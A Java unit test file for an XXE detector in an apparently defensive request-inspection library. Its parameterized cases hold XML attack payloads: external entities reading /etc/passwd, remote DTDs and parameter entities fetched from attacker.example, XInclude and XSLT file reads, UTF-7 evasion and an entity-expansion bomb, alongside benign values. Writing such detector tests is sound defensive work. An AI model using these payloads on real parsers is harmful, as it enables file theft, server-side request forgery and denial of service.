package dev.vigil.shield.detect.xxe;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.shield.detect.Detection;
import dev.vigil.shield.inspect.InspectedValue;
import dev.vigil.shield.inspect.Normalizer;
import dev.vigil.shield.inspect.Source;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class XxeDetectorTest {

    private final XxeDetector detector = new XxeDetector();

    private String rule(String value) {
        List<Detection> out = new ArrayList<>();
        detector.inspect(new InspectedValue("body", "", Source.BODY, -1, Normalizer.variants(value)), out::add);
        assertThat(out).hasSizeLessThanOrEqualTo(1);
        return out.isEmpty() ? null : out.get(0).ruleId();
    }

    @Test
    void id_and_category() {
        assertThat(detector.id()).isEqualTo("xxe");
        assertThat(detector.category()).isEqualTo("xxe");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><r>&e;</r>",
                "<!DOCTYPE r [<!ENTITY e PUBLIC \"x\" \"https://attacker.example/e.xml\">]><r>&e;</r>",
                "<!doctype r [ <!entity e system 'expect://id' > ]><r>&e;</r>",
                "<!ENTITY note SYSTEM \"notes.txt\">",
                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"https://attacker.example/p.dtd\"> %p;]>",
                "<soap:Body><x><![CDATA[<!DOCTYPE d [<!ENTITY e SYSTEM \"http://10.0.0.1/\">]><d/>]]></x></soap:Body>",
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY e SYSTEM \"file:///x\">]><text>&e;</text></svg>",
                "&lt;!DOCTYPE r [&lt;!ENTITY e SYSTEM &quot;file:///etc/passwd&quot;&gt;]&gt;",
                "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE r +AFsAPAAh-ENTITY e SYSTEM +ACI-file:///x+ACIAPg-+AF0APg-"
            })
    void external_entities(String value) {
        assertThat(rule(value)).isEqualTo(XxeDetector.EXTERNAL_ENTITY);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE r [<!ENTITY % a \"<!ENTITY b 'x'>\"> %a;]><r/>",
                "<!DOCTYPE r [<!ENTITY % a \"&#37;b;\">]><r/>",
                "<!DOCTYPE r [ %remote; ]><r/>"
            })
    void parameter_entities(String value) {
        assertThat(rule(value)).isEqualTo(XxeDetector.PARAMETER_ENTITY);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!DOCTYPE r SYSTEM \"https://attacker.example/r.dtd\"><r/>",
                "<!DOCTYPE r SYSTEM \"//host/r\"><r/>",
                "<!DOCTYPE r PUBLIC \"whatever\" \"http://attacker.example/r.dtd\"><r/>"
            })
    void external_dtds(String value) {
        assertThat(rule(value)).isEqualTo(XxeDetector.EXTERNAL_DTD);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/hosts\" parse=\"text\"/></r>",
                "<r xmlns:x=\"http://www.w3.org/2001/XInclude\"><x:include href=\"a.xml\"/></r>",
                "<xsl:stylesheet version=\"1.0\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('/etc/hosts')\"/></xsl:template></xsl:stylesheet>",
                "<xsl:stylesheet xmlns:php=\"http://php.net/xsl\" version=\"1.0\"/>",
                "<xs:schema><xs:include schemaLocation=\"http://attacker.example/a.xsd\"/></xs:schema>"
            })
    void includes(String value) {
        assertThat(rule(value)).isEqualTo(XxeDetector.INCLUDE);
    }

    @Test
    void entity_expansion() {
        String bomb =
                "<!DOCTYPE b [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]><b>&c;</b>";
        assertThat(rule(bomb)).isEqualTo(XxeDetector.EXPANSION);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<?xml version=\"1.0\"?><order><id>42</id><note>Leave at door</note></order>",
                "<!DOCTYPE html><html><body>Hi</body></html>",
                "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>",
                "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
                "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist/>",
                "<!DOCTYPE note [<!ENTITY company \"Example Ltd\">]><note>&company; &amp; partners</note>",
                "<!DOCTYPE n [<!ENTITY q \"&quot;\">]><n>&q;hi&q;</n>",
                "<!-- <!ENTITY e SYSTEM \"file:///etc/passwd\"> --><r/>",
                "<a href=\"x\">50% off; today only</a>",
                "<xsl:stylesheet version=\"1.0\"><xsl:template match=\"/\"><b/></xsl:template></xsl:stylesheet>",
                "x < y && y > z",
                "<?xml version=\"1.0\"?><GetCapabilities service=\"WFS\" xmlns=\"http://www.opengis.net/wfs\"/>",
                "1 + ADw = 2"
            })
    void benign_values(String value) {
        assertThat(rule(value)).isNull();
    }

    @Test
    void utf7_decoding() {
        assertThat(Utf7.decode("+ADwAIQ-DOCTYPE")).isEqualTo("<!DOCTYPE");
        assertThat(Utf7.decode("a+-b")).isEqualTo("a+b");
        assertThat(Utf7.decode("+")).isEqualTo("+");
    }
}
